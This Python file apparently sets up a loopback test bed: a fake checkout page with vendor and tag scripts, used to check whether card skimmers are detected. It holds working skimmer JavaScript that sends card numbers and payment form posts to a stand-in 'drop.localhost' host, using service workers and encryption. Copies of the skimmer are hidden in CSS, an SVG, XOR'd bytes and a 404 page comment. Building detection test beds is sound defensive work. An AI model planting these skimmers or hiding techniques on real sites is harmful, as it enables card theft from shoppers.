"""The shop, the vendor, the provider and the drop of the bed: one small server on loopback, told
apart by the host that is asked for (*.localhost). What is loaded by the checkout page is set with
Bed.load(); what arrives at other hosts is written down. Nothing here leaves the machine."""
import base64
import hashlib
import http.server
import json
import os
import threading
import time
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
GIF = base64.b64decode("R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==")
SUBMIT = ("document.addEventListener('submit',function(e){var n=e.target.querySelector('input[autocomplete=cc-number]');"
          "if(n)fetch('http://drop.localhost:'+location.port+'/c',{method:'POST',mode:'no-cors',keepalive:true,body:n.value})},true)")
WORKER = """self.addEventListener('fetch', function (e) {
	if (e.request.method !== 'POST' || new URL(e.request.url).pathname !== '/pay') return;
	e.request.clone().text().then(function (t) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: t}); });
});"""
CIPHER_WORKER = """self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(clients.claim()); });
self.addEventListener('fetch', function (e) {
	if (e.request.method !== 'POST' || new URL(e.request.url).pathname !== '/pay') return;
	e.waitUntil(e.request.clone().text().then(function (t) {
		return crypto.subtle.generateKey({name: 'AES-GCM', length: 256}, true, ['encrypt']).then(function (k) {
			return crypto.subtle.encrypt({name: 'AES-GCM', iv: crypto.getRandomValues(new Uint8Array(12))}, k, new TextEncoder().encode(t));
		});
	}).then(function (b) { return fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: b}); }));
});"""
CACHE_WORKER = """self.addEventListener('install', function (e) { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(clients.claim()); });
self.addEventListener('fetch', function (e) {
	if (e.request.method !== 'GET' || !/^(image|style|font)$/.test(e.request.destination)) return;
	e.respondWith(caches.open('v1').then(function (c) {
		return c.match(e.request).then(function (hit) {
			return hit || fetch(e.request).then(function (r) { c.put(e.request, r.clone()); return r; });
		});
	}));
});"""
HELPER = """<!doctype html><title>Help</title><link rel=icon href="data:,"><script>
new BroadcastChannel('t70').onmessage = function (e) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', body: e.data}); };
</script>"""
VENDOR = """window.formAssist = {version: 1, format: function (v) { return v.replace(/\\D/g, ''); }};
document.addEventListener('input', function (e) { if (e.target.name === 'zip') e.target.value = formAssist.format(e.target.value); });
"""
CONTAINER = "window.dataLayer = window.dataLayer || [];\ndataLayer.push({'gtm.start': %d, 'gtm.uniqueEventId': '%s'});\n"
CSP = "default-src 'self' http://*.localhost:* 'unsafe-inline' 'unsafe-eval' data: blob: ws://*.localhost:* https://*.localhost:*"
PAGE = """<!doctype html><html lang=ja><meta charset=utf-8><title>Checkout</title>
<link rel=icon href="data:,"><script src="/shop.js"></script>
<script src="http://vendor.localhost:%(port)d/w.js"></script>
<script src="http://tags.localhost:%(port)d/container.js"></script>
%(head)s<body><h1>Checkout</h1><a href="/">Home</a>
<form id=pay action="/pay" method=post>
<p><input name=name autocomplete=name placeholder=Name><input name=zip autocomplete=postal-code placeholder=Zip>
<p><input name=card_number autocomplete=cc-number inputmode=numeric placeholder=Card>
<input name=card_holder autocomplete=cc-name placeholder=Holder>
<select name=card_month autocomplete=cc-exp-month>%(months)s</select><select name=card_year autocomplete=cc-exp-year>%(years)s</select>
<input name=card_code autocomplete=cc-csc placeholder=Code>
<p><button>Pay</button></form><p style="height:900px">%(tail)s"""
BED = {b["id"]: b for b in json.load(open(os.path.join(HERE, "bed.json"), encoding="utf-8"))}


def source(name):
    """Each imitation has a drop of its own: a finding that was told once is not told again."""
    with open(os.path.join(HERE, "bed", name + ".js"), encoding="utf-8") as f:
        return own_drop(f.read(), name)


def own_drop(text, name):
    return text.replace("drop.localhost", "drop-%s.localhost" % name)


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def answer(self, body, kind="text/html; charset=utf-8", status=200, headers=()):
        data = body if isinstance(body, bytes) else body.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Connection", "close")
        self.send_header("Access-Control-Allow-Origin", "*")
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def socket(self):
        """Just enough of a WebSocket (RFC 6455) to hear frames."""
        key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
        self.end_headers()
        while True:
            head = self.rfile.read(2)
            if len(head) < 2 or head[0] & 15 == 8:
                break
            n = head[1] & 127
            mask = self.rfile.read(4)
            self.server.bed.heard("ws", bytes(b ^ mask[i % 4] for i, b in enumerate(self.rfile.read(n))))
        self.close_connection = True

    def shop(self, path):
        bed = self.server.bed
        if path == "/":
            self.answer("<!doctype html><meta charset=utf-8><title>Shop</title><link rel=icon href='data:,'>"
                        "<a href=/checkout id=go>Checkout</a>%s" % bed.tags("home"))
        elif path == "/checkout":
            self.answer(bed.checkout(), headers=[("Content-Security-Policy", CSP), ("X-Frame-Options", "DENY")])
        elif path == "/shop.js":
            self.answer("document.documentElement.classList.add('js');", "text/javascript")
        elif path == "/pay" or path == "/relay":
            self.answer("<!doctype html><title>Thanks</title><link rel=icon href='data:,'><h1>Thanks</h1>" + bed.tags("thanks"))
        elif path.startswith("/api/"):
            self.answer("{}", "application/json")
        elif path == "/sw-s12.js":
            self.answer(own_drop(WORKER, "s12"), "text/javascript")
        elif path == "/sw-s58.js":
            self.answer(own_drop(CIPHER_WORKER, "s58"), "text/javascript")
        elif path == "/sw-b20.js":
            self.answer(CACHE_WORKER, "text/javascript")
        elif path == "/helper-s70":
            self.answer(own_drop(HELPER, "s70"))
        elif path == "/style-s65.css":
            self.answer(':root { --cfg: "%s"; }' % base64.b64encode(own_drop(SUBMIT, "s65").encode()).decode(), "text/css")
        elif path == "/logo-s32.svg":
            self.answer('<svg xmlns="http://www.w3.org/2000/svg"><desc>%s</desc></svg>' %
                        own_drop(SUBMIT, "s32").replace("&", "&amp;").replace("<", "&lt;"), "image/svg+xml")
        elif path == "/pixels-s34":
            self.answer(bytes(b ^ 85 for b in own_drop(SUBMIT, "s34").encode()), "application/octet-stream")
        else:
            self.answer("<!doctype html><title>404</title>Not here.<!--cfg:%s-->" %
                        base64.b64encode(own_drop(SUBMIT, "s13").encode()).decode(), status=404)

    def do_GET(self):
        host = (self.headers["Host"] or "").split(":")[0].split(".")
        path = urllib.parse.urlsplit(self.path).path
        n = int(self.headers["Content-Length"] or 0)
        body = self.rfile.read(n) if n else b""
        bed = self.server.bed
        if self.headers["Upgrade"] == "websocket":
            return self.socket()
        if path.startswith("/bed/"):
            return self.answer(source(path[5:-3]), "text/javascript")
        if host[-2:-1] == ["shop"]:
            return self.shop(path)
        if path == "/w.js":
            return self.answer(bed.vendor(), "text/javascript")
        if path == "/container.js":
            return self.answer(bed.container(), "text/javascript")
        if path == "/frame":
            return self.answer("<!doctype html><title>PSP</title><input autocomplete=off placeholder=Token>")
        if path == "/listen":
            return self.answer("<!doctype html><title>x</title><script>onmessage=function(e){fetch('/c',{method:'POST',body:e.data})}</script>")
        bed.heard(".".join(host), self.path.encode() + b" " + body)
        if path.endswith(".css"):
            return self.answer("", "text/css")
        if path.endswith(".gif"):
            return self.answer(GIF, "image/gif")
        if path == "/es":
            return self.answer("data: x\n\n", "text/event-stream")
        return self.answer("", status=204 if path != "/relay" else 307, headers=[("Location", "http://shop.localhost:%d/pay" % bed.port)])

    do_POST = do_HEAD = do_OPTIONS = do_GET


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def handle_error(self, request, client_address):
        """A browser that leaves a page hangs up on what it had asked for."""


class Bed:
    def __init__(self):
        self.server = Server(("127.0.0.1", 0), Handler)
        self.server.bed = self
        self.port = self.server.server_address[1]
        self.url = "http://shop.localhost:%d" % self.port
        self.ids, self.got, self.lock = [], [], threading.Lock()
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()

    def load(self, *ids):
        """From now on the checkout page loads these, and what arrived is forgotten."""
        self.ids = list(ids)
        with self.lock:
            self.got = []

    def heard(self, host, data):
        with self.lock:
            self.got.append((host, data))

    def tags(self, page):
        """Some also stand on the pages before and after."""
        return "".join('<script src="http://cdn-%s.localhost:%d/bed/%s.js"></script>' % (i, self.port, i)
                       for i in self.ids if BED[i].get("pages") == "all" and page != "checkout")

    def checkout(self):
        head = tail = ""
        for i in self.ids:
            how = BED[i]["load"]
            if how == "third":
                head += '<script src="http://cdn-%s.localhost:%d/bed/%s.js"></script>\n' % (i, self.port, i)
            elif how == "inline":
                tail += "<script>%s</script>\n" % source(i)
        return PAGE % {"port": self.port, "head": head, "tail": tail,
                       "months": "".join("<option>%02d" % m for m in range(1, 13)),
                       "years": "".join("<option>%d" % y for y in range(2027, 2037))}

    def vendor(self):
        for i in self.ids:
            if BED[i]["load"] == "vendor":
                return source(i)
        return VENDOR

    def container(self):
        rotating = CONTAINER % (int(time.time() * 1000), os.urandom(6).hex())
        return rotating + "".join(source(i) for i in self.ids if BED[i]["load"] == "container")
